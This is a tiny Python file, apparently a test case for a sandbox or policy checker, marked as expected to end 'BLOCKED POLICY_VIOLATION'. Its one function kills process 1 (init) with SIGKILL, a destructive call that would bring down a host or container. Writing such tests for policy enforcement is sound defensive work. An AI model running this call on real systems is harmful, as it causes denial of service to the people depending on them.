# ends: BLOCKED POLICY_VIOLATION

import os


def execute(req):
    os.kill(1, 9)
